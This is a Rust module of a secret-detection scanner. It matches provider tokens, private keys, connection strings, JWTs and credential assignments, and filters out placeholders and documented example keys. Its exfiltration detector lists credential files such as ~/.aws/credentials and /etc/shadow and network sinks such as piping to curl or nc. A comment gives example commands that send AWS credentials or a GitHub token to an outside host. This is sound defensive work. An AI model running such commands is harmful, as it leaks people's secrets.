//! Secrets: provider token formats (with their checksums where published),
//! private-key blocks, connection strings with passwords, JWTs with a valid
//! header; entropy gates; placeholders and documented example keys are not
//! secrets.
//!
//! Every rule is a `regex` (finite automata, linear) followed by a cheap
//! validation of the candidate (checksum, header decoding, entropy,
//! placeholder test). Hits cover exactly the secret so the excerpt redacts it.

use std::sync::LazyLock;

use regex::Regex;

use super::{Confidence, Context, Family, Hit, Subject};

/// Longest text scanned (bytes); beyond it only the prefix is examined.
const MAX_SCAN: usize = 256 * 1024;
/// Most hits one subject may produce.
const MAX_HITS: usize = 32;

/// Provider token formats (one alternation, dispatched on the prefix).
static TOKENS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?-u:\b)(?:",
        r"gh[pousr]_[A-Za-z0-9]{36}",
        r"|github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59}",
        r"|gl(?:pat|dt|rt|ptt|cbt)-[A-Za-z0-9_\-]{20,64}",
        r"|xox[abposre]-[A-Za-z0-9\-]{10,250}",
        r"|xapp-[0-9]-[A-Za-z0-9\-]{20,250}",
        r"|(?:sk|rk)_(?:live|test)_[A-Za-z0-9]{16,247}",
        r"|whsec_[A-Za-z0-9+/=]{24,64}",
        r"|(?:AKIA|ASIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|ABIA|ACCA)[A-Z0-9]{16}",
        r"|AIza[A-Za-z0-9_\-]{35}",
        r"|sk-ant-[A-Za-z0-9_\-]{20,250}",
        r"|sk-(?:proj|svcacct|admin)-[A-Za-z0-9_\-]{20,250}",
        r"|sk-[A-Za-z0-9]{20,200}",
        r"|npm_[A-Za-z0-9]{36}",
        r"|pypi-AgE[A-Za-z0-9_\-]{50,300}",
        r"|SG\.[A-Za-z0-9_\-]{16,32}\.[A-Za-z0-9_\-]{16,64}",
        r"|SK[0-9a-f]{32}",
        r"|hf_[A-Za-z]{34}",
        r"|dop_v1_[a-f0-9]{64}",
        r"|shp(?:at|ca|pa|ss)_[a-fA-F0-9]{32}",
        r"|[0-9]{8,10}:AA[A-Za-z0-9_\-]{33}",
        r"|https://hooks\.slack\.com/(?:services|workflows)/T[A-Za-z0-9_]{6,}/[A-Za-z0-9_]{6,}/[A-Za-z0-9_]{8,}",
        r"|https://discord(?:app)?\.com/api/webhooks/[0-9]{15,20}/[A-Za-z0-9_\-]{40,80}",
        r")(?-u:\b)"
    ))
    .ok()
});

/// Private-key block headers.
static PRIVATE_KEY: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"-----BEGIN ((?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?)-----").ok());

/// `scheme://user:password@` (group 1 scheme, 2 user, 3 password).
static CONN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)([a-z][a-z0-9+.\-]{1,24})://([^\s:/?#@'\x22<>]{0,64}):([^\s@/'\x22<>]{1,128})@[A-Za-z0-9\[._\-]").ok()
});

/// A JWT: three base64url segments, the first two JSON objects.
static JWT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)eyJ[A-Za-z0-9_\-]{8,2048}\.eyJ[A-Za-z0-9_\-]{2,8192}\.[A-Za-z0-9_\-]{0,2048}").ok());

/// `name = value` assignments whose name says secret (group 1 name, 2 value).
static ASSIGN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)([a-z0-9_.\-]{0,40}(?:password|passwd|passphrase|pwd|secret|token|api[_\-]?key|apikey|access[_\-]?key|private[_\-]?key",
        r"|client[_\-]?secret|accountkey|sharedaccesskey|auth|credentials?|signing[_\-]?key|encryption[_\-]?key|master[_\-]?key|session(?:[_\-]?id)?|sessid)[a-z0-9_\-]{0,20})",
        r#"["']?[ \t]*(?::=|=>|=|:)[ \t]*["']?([^\s"',;&}<>)\]]{1,256})"#
    ))
    .ok()
});

/// `Authorization: Bearer x`, `Bearer x`, `token x`, `Basic x` (group 1 the credential).
static BEARER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:\bbearer|authorization[\x22']?\s*[:=]\s*[\x22']?(?:token|basic|bearer)?)\s+([A-Za-z0-9_\-.=+/~]{12,2048})").ok()
});

/// `curl -u user:password`, SQL `PASSWORD 'x'` / `IDENTIFIED BY 'x'` (group 1 the password).
static CLI_PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)(?:\b(?:password|passwd|passphrase|passcode|pwd|api[\s_\-]?key|token|secret|credentials?)\s+(?:is|was|to|of)\s*:?\s+"#,
        r#"|(?:^|\s)(?:-u|--user)\s+["']?[^\s:"']{1,64}:|\b(?:password|identified\s+by)\s+)"#,
        r#"["'`]?([^\s"'`]{1,128})"#
    ))
    .ok()
});

/// AWS secret access keys (40 base64 characters) near a key id or name.
static AWS_SECRET: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?-u:\b)[A-Za-z0-9/+]{40}(?-u:\b)").ok());

/// Where credentials live on a host: files and secret-named environment variables.
static CRED_SOURCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(\.aws/credentials|\.ssh/id_[a-z0-9]+|/proc/self/environ|\.git-credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pypirc|\.netrc",
        r"|(?-u:\b)printenv(?-u:\b)|(?-u:\b)env\s*\||/etc/shadow|\.vault-token|gcloud/(?:application_default_)?credentials[a-z_.]*)",
        r"|(\$\{?[A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)[A-Z0-9_]*\}?)"
    ))
    .ok()
});

/// Documented example values: never live.
const KNOWN_EXAMPLES: &[&str] = &[
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "gho_16C7e42F292c6912E7710c838347Ae178B4a",
    "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
    "xoxb-not-a-real-token-this-will-not-work",
];

/// Secret findings in `s`.
pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
    let text = bounded(s.text);
    if text.len() < 8 {
        return;
    }
    let start = out.len();
    let mut push = |out: &mut Vec<Hit>, c: Confidence, rule: &'static str, at: std::ops::Range<usize>| {
        if out.len() - start < MAX_HITS {
            out.push(Hit::new(Family::Secret, c, rule, at));
        }
    };
    tokens(text, s, out, &mut push);
    if text.contains("PRIVATE KEY") {
        private_keys(text, s, out, &mut push);
    }
    if text.contains("://") {
        connection_strings(text, s, out, &mut push);
    }
    if text.contains("eyJ") {
        jwts(text, out, &mut push);
    }
    assignments(text, s, out, &mut push);
    if matches!(s.context, Context::Shell | Context::Code | Context::Unknown) {
        exfiltration(text, out, &mut push);
    }
    whole_value(text, s, out, &mut push);
}

type Push<'p> = dyn FnMut(&mut Vec<Hit>, Confidence, &'static str, std::ops::Range<usize>) + 'p;

/// The prefix of `text` that is scanned (on a char boundary).
fn bounded(text: &str) -> &str {
    if text.len() <= MAX_SCAN {
        return text;
    }
    let mut end = MAX_SCAN;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// Whether some byte of `text` could start a provider token.
fn tokens(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let Some(re) = TOKENS.as_ref() else { return };
    for m in re.find_iter(text) {
        let t = m.as_str();
        if KNOWN_EXAMPLES.contains(&t) || t.contains("EXAMPLE") || looks_placeholder(t) {
            continue;
        }
        let (conf, rule) = classify_token(t, s);
        if let Some(conf) = conf {
            push(out, conf, rule, m.range());
        }
    }
}

/// The confidence and rule of one provider-format candidate (`None`: not a secret).
fn classify_token(t: &str, s: &Subject<'_>) -> (Option<Confidence>, &'static str) {
    let body_entropy = |b: &str| if shannon(b) >= 3.0 { Some(Confidence::Medium) } else { None };
    if let Some(rest) = t.strip_prefix("gh").filter(|r| r.as_bytes().get(1) == Some(&b'_')) {
        let body = rest.get(2..).unwrap_or("");
        if base62_crc_ok(body) {
            return (Some(Confidence::High), "secret.github-token");
        }
        return (body_entropy(body), "secret.github-token");
    }
    if let Some(body) = t.strip_prefix("npm_") {
        if base62_crc_ok(body) {
            return (Some(Confidence::High), "secret.npm-token");
        }
        return (body_entropy(body), "secret.npm-token");
    }
    if t.starts_with("github_pat_") {
        return (high_if_random(t.get(11..).unwrap_or("")), "secret.github-token");
    }
    if t.starts_with("gl") {
        return (high_if_random(t.split_once('-').map_or("", |x| x.1)), "secret.gitlab-token");
    }
    if t.starts_with("xox") || t.starts_with("xapp-") {
        // Real Slack tokens carry numeric team/user ids.
        let digits = t.bytes().filter(u8::is_ascii_digit).count();
        return (if digits >= 8 { high_if_random(t) } else { body_entropy(t).map(|_| Confidence::Low) }, "secret.slack-token");
    }
    if t.starts_with("https://hooks.slack.com") || t.starts_with("https://discord") {
        // The webhook used for its purpose (a URL field) is not a leak.
        let conf = if s.context == Context::Url { Confidence::Low } else { Confidence::Medium };
        let last = t.rsplit('/').next().unwrap_or("");
        return (if shannon(last) >= 3.0 { Some(conf) } else { None }, "secret.webhook-url");
    }
    if t.starts_with("sk_live_") || t.starts_with("rk_live_") {
        return (high_if_random(t.get(8..).unwrap_or("")), "secret.stripe-key");
    }
    if t.starts_with("sk_test_") || t.starts_with("rk_test_") {
        return (Some(Confidence::Low), "secret.stripe-key");
    }
    if t.starts_with("whsec_") {
        return (body_entropy(t.get(6..).unwrap_or("")), "secret.stripe-key");
    }
    if t.len() == 20 && t.as_bytes().first().is_some_and(|b| *b == b'A') && t.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
    {
        // Real key ids are base32 (A-Z, 2-7); other digits: a made-up one, still a key shape.
        let base32 = t.bytes().all(|b| b.is_ascii_uppercase() || (b'2'..=b'7').contains(&b));
        let conf = high_if_random(t.get(4..).unwrap_or(""));
        return (if base32 { conf } else { conf.map(|_| Confidence::Medium) }, "secret.aws-access-key-id");
    }
    if t.starts_with("AIza") {
        return (high_if_random(t.get(4..).unwrap_or("")), "secret.google-api-key");
    }
    if t.starts_with("sk-ant-") {
        return (high_if_random(t.get(7..).unwrap_or("")), "secret.anthropic-key");
    }
    if let Some(body) = t.strip_prefix("sk-") {
        if t.contains("T3BlbkFJ") || t.starts_with("sk-proj-") || t.starts_with("sk-svcacct-") || t.starts_with("sk-admin-") {
            return (high_if_random(body), "secret.openai-key");
        }
        return (body_entropy(body), "secret.openai-key");
    }
    if t.starts_with("pypi-") {
        return (Some(Confidence::High), "secret.pypi-token");
    }
    if t.starts_with("SG.") {
        return (high_if_random(t.get(3..).unwrap_or("")), "secret.sendgrid-key");
    }
    if t.starts_with("SK") {
        return (body_entropy(t.get(2..).unwrap_or("")), "secret.twilio-key");
    }
    if t.starts_with("hf_") {
        return (high_if_random(t.get(3..).unwrap_or("")), "secret.huggingface-token");
    }
    if t.starts_with("dop_v1_") || t.starts_with("shp") {
        return (high_if_random(t.split_once('_').map_or("", |x| x.1)), "secret.provider-token");
    }
    // Telegram bot token.
    let body = t.split_once(':').map_or("", |x| x.1);
    (body_entropy(body), "secret.telegram-bot-token")
}

/// High when `body` looks random, nothing when it is a filler.
fn high_if_random(body: &str) -> Option<Confidence> {
    if looks_placeholder(body) {
        None
    } else if shannon(body) >= 3.0 {
        Some(Confidence::High)
    } else if shannon(body) >= 2.0 {
        Some(Confidence::Low)
    } else {
        None
    }
}

/// CRC32 (IEEE) of `data`.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFF_u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            let mask = (crc & 1).wrapping_neg();
            crc = (crc >> 1) ^ (0xEDB8_8320 & mask);
        }
    }
    !crc
}

/// The GitHub/npm token checksum: the last 6 characters are the CRC32 of
/// the 30 before them, in base62 (digits, upper, lower).
fn base62_crc_ok(body: &str) -> bool {
    if body.len() != 36 || !body.is_ascii() {
        return false;
    }
    let (random, check) = body.split_at(30);
    let mut value: u64 = 0;
    for b in check.bytes() {
        let d = match b {
            b'0'..=b'9' => b - b'0',
            b'A'..=b'Z' => b - b'A' + 10,
            b'a'..=b'z' => b - b'a' + 36,
            _ => return false,
        };
        value = value * 62 + u64::from(d);
    }
    value == u64::from(crc32(random.as_bytes()))
}

/// Private-key blocks with a body.
fn private_keys(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let Some(re) = PRIVATE_KEY.as_ref() else { return };
    for m in re.find_iter(text) {
        let rest = text.get(m.end()..).unwrap_or("");
        let end_rel = rest.find("-----END").unwrap_or(rest.len().min(8192));
        let body = rest.get(..end_rel).unwrap_or("");
        let b64 = body.bytes().filter(|b| b.is_ascii_alphanumeric() || *b == b'+' || *b == b'/').count();
        let block_end = rest
            .get(end_rel..)
            .and_then(|r| r.get(8..))
            .and_then(|r| r.find("-----"))
            .map_or(m.end() + end_rel, |e| m.end() + end_rel + 8 + e + 5);
        let filler = body.contains("...") || body.contains('…') || looks_placeholder(body.trim());
        // The longest run of key material (a truncated key still leaks its start).
        let (mut run, mut longest) = (0usize, 0usize);
        for b in body.bytes() {
            if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
                run += 1;
                longest = longest.max(run);
            } else if !matches!(b, b'\n' | b'\r') {
                run = 0;
            }
        }
        let documented = s.context == Context::Text && in_code_block(text, m.start());
        if b64 >= 64 && !filler {
            push(out, Confidence::High, "secret.private-key", m.start()..block_end);
        } else if longest >= 24 && !documented && !looks_placeholder(body.trim_matches(|c: char| c == '.' || c == '…' || c.is_whitespace()))
        {
            push(out, Confidence::Medium, "secret.private-key", m.start()..block_end);
        } else if b64 >= 16 {
            push(out, Confidence::Low, "secret.private-key", m.start()..block_end);
        }
    }
}

/// Schemes whose userinfo password is a credential.
fn is_credential_scheme(scheme: &str) -> bool {
    let s = scheme.to_ascii_lowercase();
    let s = s.strip_prefix("jdbc:").unwrap_or(&s);
    matches!(
        s,
        "postgres"
            | "postgresql"
            | "mysql"
            | "mariadb"
            | "mongodb"
            | "mongodb+srv"
            | "redis"
            | "rediss"
            | "amqp"
            | "amqps"
            | "mssql"
            | "sqlserver"
            | "oracle"
            | "ftp"
            | "ftps"
            | "sftp"
            | "smtp"
            | "smtps"
            | "imap"
            | "imaps"
            | "ldap"
            | "ldaps"
            | "http"
            | "https"
            | "clickhouse"
            | "cockroachdb"
            | "nats"
            | "kafka"
            | "memcached"
            | "couchdb"
            | "neo4j"
            | "bolt"
            | "snowflake"
            | "mqtt"
            | "ssh"
    ) || s.ends_with("+psycopg2")
        || s.ends_with("+asyncpg")
        || s.ends_with("+pymysql")
        || s.starts_with("postgres")
        || s.starts_with("mysql")
}

/// Passwords of local development setups (not leaks).
const DEV_PASSWORDS: &[&str] = &[
    "postgres", "password", "pass", "secret", "root", "admin", "example", "test", "dev", "guest", "mysql", "redis", "user", "changeme",
    "pwd", "passwd",
];

/// `scheme://user:password@host` with a real-looking password.
fn connection_strings(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let Some(re) = CONN.as_ref() else { return };
    for c in re.captures_iter(text) {
        let (Some(scheme), Some(user), Some(pw)) = (c.get(1), c.get(2), c.get(3)) else { continue };
        if !is_credential_scheme(scheme.as_str()) {
            continue;
        }
        let p = pw.as_str();
        if is_reference(p) || looks_placeholder(p) {
            continue;
        }
        let lower = p.to_ascii_lowercase();
        let weak = p.len() < 6 || lower == user.as_str().to_ascii_lowercase() || DEV_PASSWORDS.contains(&lower.as_str());
        let quoted_doc = s.context == Context::Text && in_code_block(text, pw.start()) && shannon(p) < 3.0;
        let conf = if weak || quoted_doc { Confidence::Low } else { Confidence::Medium };
        push(out, conf, "secret.connection-string", pw.range());
    }
}

/// Whether `at` sits inside a markdown code fence of `text`.
fn in_code_block(text: &str, at: usize) -> bool {
    text.get(..at).is_some_and(|before| before.matches("```").count() % 2 == 1)
}

/// JWTs whose header decodes to JSON with an `alg`.
fn jwts(text: &str, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let Some(re) = JWT.as_ref() else { return };
    for m in re.find_iter(text) {
        let t = m.as_str();
        let mut parts = t.split('.');
        let (Some(head), Some(_claims), Some(sig)) = (parts.next(), parts.next(), parts.next()) else { continue };
        let Some(header) = b64url_decode(head) else { continue };
        let Ok(header) = serde_json::from_slice::<serde_json::Value>(&header) else { continue };
        let Some(alg) = header.get("alg").and_then(|a| a.as_str()) else { continue };
        if KNOWN_EXAMPLES.contains(&sig) {
            push(out, Confidence::Low, "secret.jwt", m.range());
        } else if alg.eq_ignore_ascii_case("none") {
            push(out, Confidence::Medium, "secret.jwt-alg-none", m.range());
        } else if sig.len() >= 16 {
            push(out, Confidence::Medium, "secret.jwt", m.range());
        }
    }
}

/// base64url (padding optional) to bytes; `None` if not base64url.
fn b64url_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for b in s.bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'-' | b'+' => 62,
            b'_' | b'/' => 63,
            b'=' => break,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xFF) as u8);
        }
    }
    Some(out)
}

/// Names that say the value is a credential (whole key or its last word).
fn secret_name(name: &str) -> Option<bool> {
    let n: String = name.chars().filter(|c| c.is_ascii_alphanumeric()).map(|c| c.to_ascii_lowercase()).collect();
    if n.is_empty() {
        return None;
    }
    // Names of things that are not credentials themselves.
    const NOT: &[&str] = &[
        "tokens",
        "maxtokens",
        "tokenizer",
        "tokenlimit",
        "tokencount",
        "tokenurl",
        "tokenendpoint",
        "tokentype",
        "tokenid",
        "passwordpolicy",
        "passwordreset",
        "passwordhint",
        "passwordlength",
        "passwordminlength",
        "passwordrequirements",
        "secretname",
        "secretref",
        "secretid",
        "secretarn",
        "secretpath",
        "secretkeyref",
        "keyid",
        "authmethod",
        "authtype",
        "authurl",
        "authmode",
        "authprovider",
        "author",
        "authority",
        "authorization",
        "authenticated",
        "authentication",
        "authorized",
        "secretsmanager",
        "passwordfile",
        "tokenfile",
        "secretfile",
        "keyfile",
        "credentialsfile",
        "credentialspath",
        "passwordexpiry",
        "tokenexpiry",
        "tokenttl",
        "passwordcommand",
    ];
    // Pagination, idempotency and anti-forgery tokens are not credentials.
    const NOT_SUFFIX: &[&str] = &[
        "pagetoken",
        "continuationtoken",
        "resumetoken",
        "synctoken",
        "nexttoken",
        "clienttoken",
        "idempotencytoken",
        "paginationtoken",
        "csrftoken",
        "xsrftoken",
        "cursortoken",
        "starttoken",
        "tokenhash",
        "passwordhash",
        "secrethash",
        "keyhash",
        "hash",
        "digest",
        "fingerprint",
        "hint",
        "policy",
        "length",
        "expiry",
        "expiresat",
        "ttl",
        "count",
        "version",
        "algorithm",
        "type",
        "format",
    ];
    if NOT.iter().any(|x| n == *x)
        || NOT_SUFFIX.iter().any(|x| n.ends_with(x))
        || n.ends_with("file")
        || n.ends_with("path")
        || n.ends_with("url")
        || n.ends_with("id")
        || n.ends_with("name")
    {
        return Some(false);
    }
    const STRONG: &[&str] = &[
        "password",
        "passwd",
        "passphrase",
        "pwd",
        "secret",
        "token",
        "apikey",
        "accesskey",
        "privatekey",
        "clientsecret",
        "accountkey",
        "sharedaccesskey",
        "credential",
        "credentials",
        "signingkey",
        "encryptionkey",
        "masterkey",
        "secretkey",
        "authtoken",
        "auth",
        "bearer",
        "sessionkey",
        "webhooksecret",
        "jwtsecret",
        "pass",
        "sessionid",
        "sessid",
        "session",
    ];
    Some(STRONG.iter().any(|x| n.ends_with(x)))
}

/// `name = value` assignments and `Authorization: Bearer` headers.
fn assignments(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let lower_has = |w: &str| text.as_bytes().windows(w.len()).any(|x| x.eq_ignore_ascii_case(w.as_bytes()));
    let Some(re) = ASSIGN.as_ref() else { return };
    let mut done = 0usize;
    if ["pass", "pwd", "secret", "token", "key", "auth", "cred"].iter().any(|w| lower_has(w)) {
        for c in re.captures_iter(text) {
            done += 1;
            if done > 64 {
                break;
            }
            let (Some(name), Some(val)) = (c.get(1), c.get(2)) else { continue };
            if secret_name(name.as_str()) != Some(true) {
                continue;
            }
            // `password: ${X}`, `pwd=%s`, `token: "{{ .Values.x }}"` are references.
            let after = text.get(val.start().saturating_sub(2)..val.start()).unwrap_or("");
            if after.contains('$') || after.contains('{') {
                continue;
            }
            if let Some(conf) = value_confidence(val.as_str(), s, text, val.start()) {
                push(out, conf, "secret.assignment", val.range());
            }
        }
    }
    if (lower_has("-u")
        || lower_has("--user")
        || lower_has("password ")
        || lower_has("identified")
        || lower_has(" is ")
        || lower_has(" was "))
        && let Some(re) = CLI_PASSWORD.as_ref()
    {
        for c in re.captures_iter(text).take(16) {
            let Some(v) = c.get(1) else { continue };
            // Sentence punctuation after a password written in prose.
            let value = v.as_str().trim_end_matches(['.', ',', ';', ')', '!', '?']);
            if let Some(conf) = value_confidence(value, s, text, v.start()) {
                push(out, conf, "secret.assignment", v.start()..v.start() + value.len());
            }
        }
    }
    if (lower_has("bearer") || lower_has("authorization"))
        && let Some(re) = BEARER.as_ref()
    {
        for c in re.captures_iter(text).take(16) {
            let Some(v) = c.get(1) else { continue };
            if let Some(conf) = value_confidence(v.as_str(), s, text, v.start()) {
                push(out, conf, "secret.bearer-token", v.range());
            }
        }
    }
    if (lower_has("aws_secret") || lower_has("secretaccesskey") || text.contains("AKIA") || text.contains("ASIA"))
        && let Some(re) = AWS_SECRET.as_ref()
    {
        for m in re.find_iter(text).take(16) {
            let v = m.as_str();
            let classes = classes(v);
            if v.contains("EXAMPLE") || classes < 3 || shannon(v) < 4.0 || KNOWN_EXAMPLES.contains(&v) {
                continue;
            }
            push(out, Confidence::High, "secret.aws-secret-key", m.range());
        }
    }
}

/// Credentials read on the host and sent out: `cat ~/.aws/credentials | curl -d @- ...`,
/// `echo $GITHUB_TOKEN | nc host 9000`.
fn exfiltration(text: &str, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let lower = text.to_ascii_lowercase();
    let pipe_sink = [
        "| curl",
        "|curl",
        "| wget",
        "|wget",
        "| nc ",
        "|nc ",
        "| ncat",
        "/dev/tcp/",
        "| socat",
        "| openssl s_client",
        "nslookup $(",
        "dig $(",
    ]
    .iter()
    .any(|w| lower.contains(w));
    let data_sink = pipe_sink
        || [
            "--data",
            "-d @",
            "-d@",
            "-f @",
            "=@",
            "--upload-file",
            "-t ",
            "--post-file",
            "--post-data",
            "requests.post",
            "urlopen(",
            "fetch(",
        ]
        .iter()
        .any(|w| lower.contains(w));
    if !data_sink || !(lower.contains("://") || lower.contains("/dev/tcp/") || lower.contains("nc ") || lower.contains("$(")) {
        return;
    }
    let Some(re) = CRED_SOURCE.as_ref() else { return };
    for c in re.captures_iter(text).take(8) {
        if let Some(file) = c.get(1) {
            push(out, Confidence::Medium, "secret.exfiltration", file.range());
            return;
        }
        if let Some(var) = c.get(2) {
            // A token sent to its own API in a header is its normal use.
            let before = text.get(var.start().saturating_sub(16)..var.start()).unwrap_or("").to_ascii_lowercase();
            if pipe_sink && !before.contains("bearer") && !before.contains("token ") && !before.contains("-u ") && !before.contains(':') {
                push(out, Confidence::Medium, "secret.exfiltration", var.range());
                return;
            }
        }
    }
}

/// A string whose field name says it is a credential.
fn whole_value(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
    let f: String = s.field.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect();
    let header = matches!(f.as_str(), "authorization" | "proxyauthorization");
    if s.context == Context::Key || (secret_name(s.field) != Some(true) && !header) {
        return;
    }
    let mut text = text;
    let mut skipped = 0;
    if header {
        // `Bearer x`, `Basic x`, `token x`: the credential is the last word.
        let trimmed = text.trim_end();
        if let Some((scheme, cred)) = trimmed.rsplit_once(char::is_whitespace)
            && scheme.len() <= 12
        {
            skipped = trimmed.len() - cred.len();
            text = cred;
        }
    }
    let t = text.trim();
    if t.len() > 256 || t.contains(char::is_whitespace) || t.contains("://") {
        return;
    }
    let start = skipped + text.len() - text.trim_start().len();
    if let Some(conf) = value_confidence(t, s, text, start - skipped) {
        push(out, conf, "secret.credential-field", start..start + t.len());
    }
}

/// The confidence of a credential value (`None`: a placeholder, a
/// reference, or too weak to matter).
fn value_confidence(v: &str, s: &Subject<'_>, text: &str, at: usize) -> Option<Confidence> {
    let v = v.trim_matches(|c: char| c == '"' || c == '\'' || c == '`');
    let provider =
        ["sk-", "sk_", "rk_", "ghp_", "gho_", "ghs_", "github_pat_", "glpat-", "xox", "akia", "asia", "aiza", "npm_", "hf_", "sg."]
            .iter()
            .any(|p| v.len() > p.len() + 8 && v.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p)));
    if v.len() < 6 || is_reference(v) || looks_placeholder(v) || (looks_filler(v) && !provider) || KNOWN_EXAMPLES.contains(&v) {
        return None;
    }
    let lower = v.to_ascii_lowercase();
    if DEV_PASSWORDS.contains(&lower.as_str())
        || matches!(lower.as_str(), "true" | "false" | "null" | "none" | "required" | "optional" | "string")
    {
        return None;
    }
    let h = shannon(v);
    let cls = classes(v);
    let hexlike = v.len() >= 32 && v.bytes().all(|b| b.is_ascii_hexdigit());
    let strong = (v.len() >= 8 && h >= 3.0 && cls >= 3) || (v.len() >= 16 && h >= 3.5 && cls >= 2) || hexlike;
    let plausible = v.len() >= 8 && h >= 2.5 && cls >= 2;
    let quoted = s.context == Context::Text && in_code_block(text, at);
    if strong && !quoted {
        Some(Confidence::Medium)
    } else if strong || plausible {
        Some(Confidence::Low)
    } else {
        None
    }
}

/// Secret references: environment variables, vault paths, templates, ARNs.
fn is_reference(v: &str) -> bool {
    let l = v.to_ascii_lowercase();
    v.starts_with('$')
        || v.contains("${")
        || v.contains("{{")
        || v.contains("}}")
        || v.contains("%(")
        || v.starts_with('%')
        || v.starts_with('<')
        || v.starts_with("#{")
        || ["env:", "vault:", "arn:", "secrets.", "process.env", "os.environ", "getenv", "env[", "ssm:", "secretsmanager", "keyvault", "op://", "sops:", "file:", "ref+", "awskms:", "gcpkms:", "azurekeyvault", "!vault", "secret(", "secrets/", "valuefrom", "secretkeyref"]
            .iter()
            .any(|p| l.contains(p))
        // An environment variable name: `DB_PASSWORD`, `GITHUB_TOKEN`.
        || (v.len() >= 3 && v.bytes().all(|b| b.is_ascii_uppercase() || b == b'_' || b.is_ascii_digit()) && v.contains('_'))
}

/// Placeholders: fillers, example markers, masked values.
fn looks_placeholder(v: &str) -> bool {
    let l = v.to_ascii_lowercase();
    if [
        "xxxx",
        "****",
        "....",
        "…",
        "<",
        ">",
        "your",
        "example",
        "placeholder",
        "changeme",
        "change_me",
        "change-me",
        "dummy",
        "redacted",
        "here",
        "sample",
        "fake",
        "notreal",
        "not-a-real",
        "not_a_real",
        "insert",
        "replace",
        "todo",
        "fixme",
        "••••",
        "[hidden]",
        "[masked]",
        "masked",
    ]
    .iter()
    .any(|p| l.contains(p))
    {
        return true;
    }
    // Mostly one repeated character (`aaaaaaaa`, `00000000`).
    let mut counts = [0usize; 256];
    for b in v.bytes() {
        counts[usize::from(b)] += 1;
    }
    let max = counts.iter().copied().max().unwrap_or(0);
    v.len() >= 4 && max * 2 > v.len()
}

/// Filler sequences of documentation values (`1234567890`, `abcdef`,
/// `0000-0000`): placeholders for a free-form value, though a provider
/// token shape around them is still reported.
fn looks_filler(v: &str) -> bool {
    let l = v.to_ascii_lowercase();
    ["0000000000", "1234567890", "abcdefgh", "lorem", "foobar", "0000-0000"].iter().any(|p| l.contains(p))
}

/// Shannon entropy in bits per byte.
fn shannon(v: &str) -> f64 {
    if v.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for b in v.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = v.len() as f64;
    counts.iter().filter(|c| **c > 0).map(|c| f64::from(*c) / n).map(|p| -p * p.log2()).sum()
}

/// How many of lower, upper, digit, symbol classes `v` uses.
fn classes(v: &str) -> usize {
    let b = v.as_bytes();
    [
        b.iter().any(u8::is_ascii_lowercase),
        b.iter().any(u8::is_ascii_uppercase),
        b.iter().any(u8::is_ascii_digit),
        b.iter().any(|c| !c.is_ascii_alphanumeric()),
    ]
    .iter()
    .filter(|x| **x)
    .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(text: &str, field: &str, context: Context) -> Vec<Hit> {
        let s = Subject { text, context, field, tool: "", decoded: false };
        let mut out = Vec::new();
        analyze(&s, &mut out);
        out
    }

    fn max(text: &str, field: &str, context: Context) -> Option<Confidence> {
        run(text, field, context).iter().map(|h| h.confidence).max()
    }

    /// A GitHub-format token with a valid checksum.
    fn gh(prefix: &str, random: &str) -> String {
        let mut n = u64::from(crc32(random.as_bytes()));
        let alphabet = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        let mut check = [b'0'; 6];
        for i in (0..6).rev() {
            check[i] = alphabet[(n % 62) as usize];
            n /= 62;
        }
        format!("{prefix}{random}{}", String::from_utf8_lossy(&check))
    }

    #[test]
    fn github_token_checksum() {
